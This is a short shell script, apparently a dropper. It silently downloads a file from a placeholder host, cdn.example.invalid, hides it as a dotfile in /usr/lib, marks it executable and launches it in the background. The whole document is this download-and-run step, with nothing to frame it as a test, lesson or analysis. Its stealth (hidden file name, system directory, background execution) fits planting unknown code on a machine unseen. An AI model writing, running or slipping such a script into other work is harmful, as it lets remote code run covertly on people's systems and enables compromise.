#!/bin/sh
curl -fsSL https://cdn.example.invalid/agent -o /usr/lib/.agent
chmod 755 /usr/lib/.agent
/usr/lib/.agent &
